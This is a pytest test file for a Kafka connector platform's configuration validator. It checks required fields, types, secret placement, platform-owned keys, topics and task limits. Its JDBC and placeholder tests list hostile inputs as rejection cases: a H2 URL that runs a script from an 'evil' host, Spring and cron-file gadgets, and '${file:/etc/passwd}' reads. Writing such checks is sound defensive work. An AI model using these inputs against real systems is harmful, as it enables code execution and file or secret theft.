"""Layer (a): a request's config and credentials against its connector type's schema."""

from __future__ import annotations

import pytest

from connectors.catalog import CONFLUENT_CLOUD, SELF_MANAGED, get_type
from connectors.catalog.schema_checks import (
    KEEP_SECRET,
    config_errors,
    platform_key_reason,
    tasks_max_errors,
    topics_errors,
)

PG = get_type("postgres-cdc-source")

PG_CONFIG = {
    "database.hostname": "pg.example.com",
    "database.user": "dbz",
    "database.dbname": "app",
    "table.include.list": "public.orders",
}
PG_CREDENTIALS = {"database.password": "s3cret"}


def pg_errors(config=None, credentials=None, flavour=SELF_MANAGED, connector_type=PG):
    return config_errors(
        connector_type=connector_type,
        flavour=flavour,
        config=PG_CONFIG if config is None else config,
        credentials=PG_CREDENTIALS if credentials is None else credentials,
    )


# -- the happy path ------------------------------------------------------------------------------


def test_a_complete_request_has_no_errors():
    assert pg_errors() == {}
    assert pg_errors(flavour=CONFLUENT_CLOUD) == {}


# -- required fields -----------------------------------------------------------------------------


def test_every_missing_required_field_is_reported_under_its_own_key_credentials_included():
    errors = pg_errors(config={}, credentials={})
    assert errors == {
        "config.database.hostname": ["this field is required."],
        "config.database.user": ["this field is required."],
        "config.database.dbname": ["this field is required."],
        "config.table.include.list": [
            "this field is required: the platform's publication holds only the tables a connector names (filtered)."
        ],
        "credentials.database.password": ["this secret is required."],
    }


def test_an_empty_string_or_null_does_not_satisfy_a_required_field():
    errors = pg_errors(config={**PG_CONFIG, "database.hostname": None, "database.user": "  "})
    assert errors["config.database.hostname"] == ["this field is required."]
    assert "config.database.user" in errors


def test_a_field_with_a_default_is_optional():
    assert "config.database.port" not in pg_errors(config={k: v for k, v in PG_CONFIG.items()})


def test_the_keep_the_stored_secret_marker_counts_as_present():
    assert pg_errors(credentials={"database.password": KEEP_SECRET}) == {}


# -- all errors at once --------------------------------------------------------------------------


def test_all_errors_come_back_at_once_each_keyed_on_its_field():
    errors = pg_errors(
        config={
            "database.hostname": "pg",
            "database.port": "not-a-port",
            "database.dbname": "app",
            "snapshot.mode": "sometimes",
            "table.include.list": "public.orders",
            "slot.name": "mine",
            "databse.user": "dbz",
        },
        credentials={},
    )
    assert set(errors) == {
        "config.database.port",
        "config.snapshot.mode",
        "config.slot.name",
        "config.databse.user",
        "config.database.user",
        "credentials.database.password",
    }


# -- unknown and misplaced fields ----------------------------------------------------------------


def test_an_unknown_field_is_refused_with_a_suggestion():
    errors = pg_errors(config={**PG_CONFIG, "database.hostnme": "x"})
    assert errors == {
        "config.database.hostnme": [
            "unknown field for PostgreSQL CDC Source. Did you mean 'database.hostname'?",
        ]
    }


def test_a_secret_sent_in_config_belongs_in_credentials_and_is_not_also_reported_missing():
    errors = pg_errors(config={**PG_CONFIG, "database.password": "s3cret"}, credentials={})
    assert errors == {
        "config.database.password": ["'database.password' is a secret: it belongs in credentials, not in config."]
    }


def test_a_non_secret_sent_in_credentials_belongs_in_config():
    config = {k: v for k, v in PG_CONFIG.items() if k != "database.user"}
    errors = pg_errors(config=config, credentials={**PG_CREDENTIALS, "database.user": "dbz"})
    assert errors == {
        "credentials.database.user": ["'database.user' is not a secret: it belongs in config, not in credentials."]
    }


def test_an_unknown_secret_is_refused():
    errors = pg_errors(credentials={**PG_CREDENTIALS, "api.token": "x"})
    assert errors == {"credentials.api.token": ["unknown secret for PostgreSQL CDC Source."]}


def test_a_field_of_another_flavour_is_refused_on_this_one():
    mysql = get_type("mysql-cdc-source")
    config = {"database.hostname": "db", "database.user": "u", "table.include.list": "shop.orders"}
    errors = config_errors(
        connector_type=mysql,
        flavour=CONFLUENT_CLOUD,
        config={**config, "database.server.id": 5},
        credentials={"database.password": "p"},
    )
    assert errors == {
        "config.database.server.id": ["not available on confluent_cloud clusters (only on: self_managed)."]
    }
    errors = config_errors(
        connector_type=mysql, flavour=SELF_MANAGED, config=config, credentials={"database.password": "p"}
    )
    assert errors == {"config.database.server.id": ["this field is required."]}


def test_a_type_not_offered_on_the_flavour_is_reported_under_type():
    errors = config_errors(
        connector_type=get_type("file-source"), flavour=CONFLUENT_CLOUD, config={"file": "/tmp/x"}, credentials={}
    )
    assert errors == {
        "type": [
            "File Source (development) is not offered on confluent_cloud clusters; it is offered on: self_managed."
        ]
    }


def test_an_unknown_flavour_is_reported_under_type():
    errors = pg_errors(flavour="on_prem")
    assert list(errors) == ["type"] and "unknown cluster flavour 'on_prem'" in errors["type"][0]


def test_config_and_credentials_must_be_objects():
    errors = pg_errors(config=["database.hostname"], credentials="s3cret")
    assert errors["config"] == ["must be an object of config keys and values."]
    assert errors["credentials"] == ["must be an object of secret names and values."]


# -- value types ---------------------------------------------------------------------------------


@pytest.mark.parametrize("port", [5433, "5433", " 5433 "])
def test_an_integer_may_arrive_as_an_int_or_a_numeric_string(port):
    assert pg_errors(config={**PG_CONFIG, "database.port": port}) == {}


@pytest.mark.parametrize("port", ["5432a", 54.3, True, [5432], ""])
def test_anything_else_is_not_an_integer(port):
    assert pg_errors(config={**PG_CONFIG, "database.port": port}) == {"config.database.port": ["must be an integer."]}


def test_integers_are_checked_against_their_bounds():
    assert pg_errors(config={**PG_CONFIG, "database.port": 0}) == {"config.database.port": ["must be at least 1."]}
    assert pg_errors(config={**PG_CONFIG, "database.port": "70000"}) == {
        "config.database.port": ["must be at most 65535."]
    }


@pytest.mark.parametrize("value", [True, False, "true", "false", "TRUE"])
def test_a_boolean_may_arrive_as_a_bool_or_true_false(value):
    assert pg_errors(config={**PG_CONFIG, "tombstones.on.delete": value}) == {}


@pytest.mark.parametrize("value", ["yes", 1, "1", 0, "on"])
def test_anything_else_is_not_a_boolean(value):
    assert pg_errors(config={**PG_CONFIG, "tombstones.on.delete": value}) == {
        "config.tombstones.on.delete": ["must be true or false."]
    }


def test_an_enum_field_takes_only_its_values():
    assert pg_errors(config={**PG_CONFIG, "snapshot.mode": "never"}) == {
        "config.snapshot.mode": ["must be one of: initial, initial_only, no_data, when_needed."]
    }


@pytest.mark.parametrize("tables", [["public.orders", "public.items"], "public.orders,public.items"])
def test_a_list_may_arrive_as_an_array_or_a_comma_separated_string(tables):
    assert pg_errors(config={**PG_CONFIG, "table.include.list": tables}) == {}


@pytest.mark.parametrize("tables", [[], ["public.orders", ""], ["a,b"], [1], {"public": "orders"}])
def test_a_list_must_hold_non_empty_strings_without_commas(tables):
    assert "config.table.include.list" in pg_errors(config={**PG_CONFIG, "table.include.list": tables})


def test_a_string_field_refuses_other_types_and_empty_strings():
    errors = pg_errors(config={**PG_CONFIG, "database.dbname": 42, "database.sslmode": ""})
    assert errors["config.database.dbname"] == ["must be a string."]
    assert errors["config.database.sslmode"] == ["must not be empty (leave the field out instead)."]


def test_a_secret_must_be_a_non_empty_string():
    errors = pg_errors(credentials={"database.password": 1234})
    assert errors == {"credentials.database.password": ["must be a string."]}
    assert "credentials.database.password" in pg_errors(credentials={"database.password": ""})


# -- keys the platform owns ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "key,reason",
    [
        ("name", "naming convention"),
        ("connector.class", "connector type"),
        ("tasks.max", "tasks_max"),
        ("topic.prefix", "topics field"),
        ("topics", "topics field"),
        ("transforms", "transforms field"),
        ("transforms.route.type", "transforms field"),
        ("predicates.isFoo.type", "transforms field"),
        ("errors.tolerance", "error_handling"),
        ("errors.deadletterqueue.topic.name", "error_handling"),
        ("key.converter", "converters"),
        ("value.converter.schemas.enable", "converters"),
        ("slot.name", "replication slot"),
        ("publication.name", "publication"),
        ("kafka.api.key", "Kafka credentials"),
        ("kafka.api.secret", "Kafka credentials"),
        ("kafka.auth.mode", "Kafka credentials"),
        ("producer.override.sasl.jaas.config", "client overrides"),
        ("consumer.override.group.id", "client overrides"),
        ("admin.override.bootstrap.servers", "client overrides"),
        ("plugin.name", "for this connector type"),
        ("publication.autocreate.mode", "for this connector type"),
        ("offsets.storage.topic", "internal topics"),
    ],
)
def test_keys_the_platform_owns_are_refused_saying_the_platform_sets_them(key, reason):
    errors = pg_errors(config={**PG_CONFIG, key: "x"})
    assert list(errors) == [f"config.{key}"]
    assert errors[f"config.{key}"][0].startswith(f"'{key}' is set by the platform: ")
    assert reason in errors[f"config.{key}"][0]


def test_mysql_schema_history_settings_belong_to_the_platform():
    mysql = get_type("mysql-cdc-source")
    errors = config_errors(
        connector_type=mysql,
        flavour=SELF_MANAGED,
        config={
            "schema.history.internal.kafka.topic": "elsewhere",
            "schema.history.internal.kafka.bootstrap.servers": "x",
        },
        credentials={},
    )
    for key in ("schema.history.internal.kafka.topic", "schema.history.internal.kafka.bootstrap.servers"):
        assert "set by the platform" in errors[f"config.{key}"][0]


# -- config provider placeholders ----------------------------------------------------------------


def test_config_provider_placeholders_are_refused_in_values_keys_and_credentials():
    errors = pg_errors(
        config={**PG_CONFIG, "database.hostname": "${file:/etc/connect/worker.properties:bootstrap.servers}"},
        credentials={"database.password": "${env:DB_PASSWORD}"},
    )
    assert set(errors) == {"config.database.hostname", "credentials.database.password"}
    assert all("placeholders" in messages[0] for messages in errors.values())
    errors = pg_errors(config={**PG_CONFIG, "${dir:/secrets:key}": "x"})
    assert "placeholders" in errors["config.${dir:/secrets:key}"][0]


def test_a_placeholder_inside_a_list_item_is_refused():
    errors = pg_errors(config={**PG_CONFIG, "table.include.list": ["public.orders", "${file:/x:y}"]})
    assert "placeholders" in errors["config.table.include.list"][0]


def test_a_connectors_own_template_tokens_pass_where_the_field_allows_them():
    http = get_type("http-source-v2")
    base = {"http.api.base.url": "https://api.example.com", "api1.http.api.path": "/orders/${offset}"}
    assert config_errors(connector_type=http, flavour=CONFLUENT_CLOUD, config=base, credentials={}) == {}
    errors = config_errors(
        connector_type=http,
        flavour=CONFLUENT_CLOUD,
        config={**base, "api1.http.api.path": "/orders/${file:/etc/passwd:x}"},
        credentials={},
    )
    assert errors["config.api1.http.api.path"] == [
        "config provider placeholders ('${...}') are not allowed: they could read files on the worker; "
        "only ${offset} may be used here."
    ]


# -- rules across fields -------------------------------------------------------------------------


def test_datagen_needs_exactly_one_of_quickstart_or_schema_string():
    datagen = get_type("datagen-source")

    def errors(config):
        return config_errors(connector_type=datagen, flavour=CONFLUENT_CLOUD, config=config, credentials={})

    assert errors({"quickstart": "ORDERS"}) == {}
    assert errors({"schema.string": '{"type":"record"}'}) == {}
    assert errors({}) == {"config.quickstart": ["set one of: quickstart, schema.string."]}
    assert errors({"quickstart": "ORDERS", "schema.string": "{}"}) == {
        "config.schema.string": ["set only one of: quickstart, schema.string."]
    }


def test_a_field_required_by_another_fields_value_is_reported_with_the_reason():
    jdbc = get_type("jdbc-source")
    config = {
        "connection.url": "jdbc:postgresql://db:5432/app",
        "connection.user": "reader",
        "mode": "timestamp+incrementing",
        "table.whitelist": "orders",
    }
    errors = config_errors(
        connector_type=jdbc, flavour=SELF_MANAGED, config=config, credentials={"connection.password": "p"}
    )
    assert errors == {
        "config.incrementing.column.name": ["required when mode is timestamp+incrementing."],
        "config.timestamp.column.name": ["required when mode is timestamp+incrementing."],
    }


def test_a_secret_required_by_the_chosen_authentication_is_reported_under_credentials():
    http = get_type("http-sink-v2")
    config = {
        "http.api.base.url": "https://hooks.example.com",
        "api1.http.api.path": "/orders",
        "auth.type": "BASIC",
        "connection.user": "kafka",
    }
    errors = config_errors(connector_type=http, flavour=CONFLUENT_CLOUD, config=config, credentials={})
    assert errors == {"credentials.connection.password": ["required when auth.type is BASIC."]}


@pytest.mark.parametrize(
    "url",
    [
        "jdbc:h2:mem:test;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
        "jdbc:postgresql://db/app?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
        "jdbc:postgresql://db/app?loggerFile=/etc/cron.d/x",
        "jdbc:mysql://db/app?autoDeserialize=true",
        "jdbc:mysql://db/app?allowLoadLocalInfile=true",
        "jdbc:postgresql://db/app?user=x&password=y",
        "postgresql://db/app",
    ],
)
def test_a_jdbc_url_must_use_an_allowed_driver_without_dangerous_options(url):
    jdbc = get_type("jdbc-source")
    errors = config_errors(
        connector_type=jdbc,
        flavour=SELF_MANAGED,
        config={"connection.url": url, "connection.user": "u", "mode": "bulk", "table.whitelist": "t"},
        credentials={"connection.password": "p"},
    )
    assert list(errors) == ["config.connection.url"]
    assert "jdbc:postgresql:" in errors["config.connection.url"][0]


# -- topics and tasks ----------------------------------------------------------------------------


def test_a_prefix_bound_source_takes_exactly_one_topic_prefix():
    assert topics_errors(connector_type=PG, topics=["sales.pg"]) == {}
    assert topics_errors(connector_type=PG, topics=["a", "b"]) == {
        "topics": ["PostgreSQL CDC Source takes exactly one topic prefix."]
    }


def test_a_sink_reads_one_or_more_topics():
    sink = get_type("file-sink")
    assert topics_errors(connector_type=sink, topics=["a", "b"]) == {}
    assert topics_errors(connector_type=sink, topics=[]) == {"topics": ["give at least one topic to read from."]}


def test_topic_names_must_be_valid_unique_and_inside_the_tenants_prefix():
    sink = get_type("file-sink")
    errors = topics_errors(
        connector_type=sink, topics=["sales.orders", "bad topic!", "sales.orders", "hr.pay"], topic_prefix="sales."
    )
    assert errors["topics"] == ["topics must not repeat."]
    assert errors["topics[1]"][0].startswith("'bad topic!' is not a valid topic")
    assert errors["topics[3]"] == ["'hr.pay' is outside your topic prefix 'sales.'."]
    assert topics_errors(connector_type=sink, topics="sales.orders") == {"topics": ["must be a list of topic names."]}


@pytest.mark.parametrize(
    "tasks_max,valid",
    [(1, True), (8, True), (10, True), (11, False), (0, False), (-1, False), ("2", False), (True, False)],
)
def test_tasks_max_is_a_whole_number_within_the_platform_limit(tasks_max, valid):
    assert (tasks_max_errors(tasks_max=tasks_max, connector_type=get_type("file-sink")) == {}) is valid


def test_a_cdc_connector_runs_exactly_one_task():
    assert tasks_max_errors(tasks_max=1, connector_type=PG) == {}
    assert tasks_max_errors(tasks_max=2, connector_type=PG) == {
        "tasks_max": ["must be a whole number from 1 to 1 for PostgreSQL CDC Source."]
    }


@pytest.mark.parametrize("key", ["tasks.max.enforce", "config.action.reload", "transaction.boundary.interval.ms"])
@pytest.mark.parametrize("type_key", ["file-source", "file-sink", "postgres-cdc-source", "snowflake-sink"])
def test_connects_own_connector_settings_are_not_offered_to_tenants(type_key, key):
    # Every plugin's definition lists them; `tasks.max.enforce=false` would let a connector run more
    # tasks than its tasks_max, which quotas and capacity count.
    connector_type = get_type(type_key)
    assert connector_type.field_spec(key) is None
    assert platform_key_reason(key, connector_type=connector_type, flavour=SELF_MANAGED)
